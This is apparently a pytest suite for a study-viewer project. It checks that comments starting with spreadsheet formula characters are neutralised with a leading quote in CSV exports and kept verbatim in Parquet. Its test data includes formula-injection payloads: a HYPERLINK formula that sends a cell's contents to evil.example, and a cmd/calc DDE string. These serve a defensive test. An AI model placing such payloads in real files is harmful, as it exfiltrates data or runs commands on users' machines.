"""CSV formula injection: a reader's comment that a spreadsheet would run as a formula is
neutralised in every CSV the project writes (OWASP: a leading single quote), and kept exact
in Parquet and the database."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

import ui_fixtures as F
from cfviewer.csvsafe import FORMULA_PREFIXES, csv_text, neutralise, neutralise_frame

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                  "-", "+", "=", "-3+A1", "--3"])
def test_formula_cells_get_a_leading_quote(text):
    assert text.startswith(FORMULA_PREFIXES)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain comment", "", " =not first", "'already quoted", "a=b", "-3", "+1.5",
                                   "-2e-3", ".5", -3, -2.5, 7, None, True])
def test_other_cells_and_plain_numbers_are_left_alone(value):
    assert neutralise(value) == value


def test_only_text_columns_change_and_negative_numbers_stay_numbers():
    df = pd.DataFrame({
        "comment": pd.array([EVIL, "fine", None, "-3"], dtype="string"),
        "obj": [EVIL, 1, None, "@x"],
        "cat": pd.Categorical(["=a", "b", "=a", "b"]),
        "diff": [-0.25, 1.0, -3.0, 0.0],
        "rating": [-1, 2, 3, 4],
        "when": pd.to_datetime(["2024-01-01"] * 4, utc=True),
    })
    out = neutralise_frame(df)
    assert list(out["comment"].astype(object).where(out["comment"].notna(), None)) == [
        "'" + EVIL, "fine", None, "-3"]
    assert list(out["obj"]) [:2] == ["'" + EVIL, 1] and out["obj"][3] == "'@x"
    assert list(out["cat"].astype(str)) == ["'=a", "b", "'=a", "b"]
    assert out["diff"].equals(df["diff"]) and out["rating"].equals(df["rating"]) and out["when"].equals(df["when"])
    assert df["comment"][0] == EVIL  # the input is not changed
    rows = list(csv.reader(io.StringIO(csv_text(df, index=False))))
    assert rows[1][0] == "'" + EVIL and rows[1][3] == "-0.25" and rows[1][4] == "-1"


# ------------------------------------------------------------ through the study service
@pytest.fixture()
def fx(tmp_path_factory, tmp_path):
    t = F.template(tmp_path_factory)
    return F.copy_tree(t, tmp_path / t.name)  # the CLI names a study by its folder


def _store_comment(fx, comment: str) -> None:
    """alice answers her first read with `comment`, through the study service the page uses."""
    from cfviewer.study import reader_flow
    from cfviewer.study.responses import next_assignment
    from cfviewer.study.tokens import reader_for_token

    db = fx.open()
    try:
        reader = reader_for_token(db, fx.tokens["alice"])
        with db.read() as s:
            nxt = next_assignment(s, reader)
        assert nxt.status == "ready"
        reader_flow.save_answers(db, reader, nxt.assignment.id, F.ANSWERS, comment=comment)
    finally:
        db.dispose()


def _check_files(csv_bytes: bytes, parquet: pd.DataFrame) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8"))))
    comments = {r["comment"] for r in rows}
    assert "'" + EVIL in comments and EVIL not in comments
    assert not any(v.startswith(FORMULA_PREFIXES) and not v.lstrip("+-").replace(".", "", 1).isdigit()
                   for r in rows for v in r.values())
    assert EVIL in set(parquet["comment"].dropna())  # Parquet keeps the exact text
    assert all(int(r["rating"]) in F.ANSWERS.values() for r in rows)


def test_the_cli_export_neutralises_a_formula_comment(fx, tmp_path, capsys):
    from cfviewer.cli import main

    _store_comment(fx, EVIL)
    out = tmp_path / "export"
    assert main(["study", "export", str(fx.root), "--db", fx.db_url, "--out", str(out)]) == 0
    _check_files((out / "responses.csv").read_bytes(), pd.read_parquet(out / "responses.parquet"))


def test_the_export_page_files_neutralise_a_formula_comment(fx):
    from cfviewer.ui import research

    _store_comment(fx, EVIL)
    db = fx.open()
    try:
        bundle = research.export_files(db, fx.name, include_simulated=False)  # what admin_export.py serves
    finally:
        db.dispose()
    _check_files(bundle.files["responses.csv"], pd.read_parquet(io.BytesIO(bundle.files["responses.parquet"])))
